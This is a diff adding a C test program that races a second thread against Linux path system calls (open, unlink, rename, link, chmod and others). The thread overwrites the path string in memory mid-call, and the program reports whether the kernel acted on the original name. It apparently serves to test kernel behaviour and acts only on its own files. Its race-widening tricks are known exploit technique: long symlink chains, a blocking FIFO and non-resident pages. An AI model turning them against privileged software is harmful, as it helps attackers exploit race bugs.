@@ -1,0 +1,134 @@
+/*
+ * A path that another thread overwrites while the kernel works with it, in the current folder. Every attack uses `secret` and has
+ * `harmless` stand in memory when the call returns.
+ *
+ *   paths wait HOW      opens the fifo `secret`; the path changes while the kernel waits for its other end
+ *   paths CALL HOW      unlink, rmdir, rename, link, symlink, mkdir, chmod: it changes while the kernel follows 35 links, each to
+ *                       2,000 times `./`. Prints whether it was `secret` that the kernel used
+ *
+ * HOW: `short`; `long`: more than 512 bytes; `absent`: the page is not resident when the call begins.
+ */
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <pthread.h>
+#include <sched.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+#define NAME 9 /* both names have as many bytes, with the NUL */
+static const char SECRET[NAME] = "secret\0\0", HARMLESS[NAME] = "harmless";
+
+static char *path;       /* a page of its own */
+static char *name;       /* the last component */
+static volatile int go;
+
+/* On the first or the last CPU that there is. */
+static void stay_on(int last)
+{
+	cpu_set_t all, one;
+	sched_getaffinity(0, sizeof(all), &all);
+	CPU_ZERO(&one);
+	for (int cpu = 0; cpu < CPU_SETSIZE && (last || !CPU_COUNT(&one)); cpu++)
+		if (CPU_ISSET(cpu, &all)) {
+			CPU_ZERO(&one);
+			CPU_SET(cpu, &one);
+		}
+	sched_setaffinity(0, sizeof(one), &one);
+}
+
+#define LINKS 35 /* the kernel follows 40 */
+
+/* Puts the secret's path into the page, behind `dots` times "./" and, where it is to take long, links to longer ones. */
+static void put_path(int dots, int slow)
+{
+	char text[4096] = {};
+	int fd = open("page", O_CREAT | O_TRUNC | O_RDWR, 0600);
+	for (int i = 0; i < 2000; i++)
+		memcpy(text + 2 * i, "./", 2);
+	if (slow && symlink(text, "l"))
+		exit(1);
+	memset(text, 0, sizeof(text));
+	for (int i = 0; i < dots; i++)
+		memcpy(text + 2 * i, slow && i < LINKS ? "l/" : "./", 2);
+	memcpy(text + 2 * dots, SECRET, NAME);
+	if (write(fd, text, sizeof(text)) != sizeof(text))
+		exit(1);
+	path = mmap(NULL, sizeof(text), PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
+	close(fd);
+	name = path + 2 * dots;
+	unlink("page");
+}
+
+static void *overwrite_later(void *unused)
+{
+	usleep(50000);
+	memcpy(name, HARMLESS, NAME);
+	close(open("secret", O_WRONLY));
+	return unused;
+}
+
+static void *overwrite(void *unused)
+{
+	stay_on(1);
+	while (!go)
+		;
+	for (volatile int i = 0; i < 5000; i++)
+		;
+	memcpy(name, HARMLESS, NAME);
+	return unused;
+}
+
+/* Whether the call acted on the secret. */
+static int act(const char *call)
+{
+	struct stat st;
+	if (!strcmp(call, "unlink"))
+		return !syscall(SYS_unlinkat, AT_FDCWD, path, 0) && access("secret", F_OK);
+	if (!strcmp(call, "rmdir"))
+		return !syscall(SYS_unlinkat, AT_FDCWD, path, AT_REMOVEDIR) && access("secret", F_OK);
+	if (!strcmp(call, "rename"))
+		return !syscall(SYS_renameat2, AT_FDCWD, path, AT_FDCWD, "moved", 0) && access("secret", F_OK);
+	if (!strcmp(call, "link"))
+		return !syscall(SYS_linkat, AT_FDCWD, path, AT_FDCWD, "linked", 0) && !stat("secret", &st) && st.st_nlink == 2;
+	if (!strcmp(call, "symlink"))
+		return !syscall(SYS_symlinkat, "target", AT_FDCWD, path) && !lstat("secret", &st);
+	if (!strcmp(call, "mkdir"))
+		return !syscall(SYS_mkdirat, AT_FDCWD, path, 0700) && !access("secret", F_OK);
+	return !syscall(SYS_fchmodat, AT_FDCWD, path, 0640) && !stat("secret", &st) && (st.st_mode & 0777) == 0640;
+}
+
+int main(int argc, char **argv)
+{
+	pthread_t thread;
+	const char *call = argc > 2 ? argv[1] : "", *how = argc > 2 ? argv[2] : "";
+	int waits = !strcmp(call, "wait"), makes = !strcmp(call, "symlink") || !strcmp(call, "mkdir");
+	if (argc < 3)
+		return 2;
+	stay_on(0);
+	for (int i = 0; i < 2; i++) {
+		const char *file = i ? "secret" : "harmless";
+		if (waits && i ? mkfifo(file, 0600) : makes ? 0 : !strcmp(call, "rmdir") ? mkdir(file, 0700) : close(open(file, O_CREAT | O_RDWR, 0600)))
+			return 1;
+	}
+	put_path(strcmp(how, "long") ? LINKS : 400, !waits);
+	if (pthread_create(&thread, NULL, waits ? overwrite_later : overwrite, NULL))
+		return 1;
+	usleep(10000);
+	if (strcmp(how, "absent"))
+		*(volatile char *)path = path[0];
+	else
+		madvise(path, 4096, MADV_DONTNEED);
+	if (waits) {
+		close(syscall(SYS_openat, AT_FDCWD, path, O_RDONLY));
+	} else {
+		go = 1;
+		printf("%s\n", act(call) ? "secret" : "harmless");
+	}
+	pthread_join(thread, NULL);
+	return 0;
+}
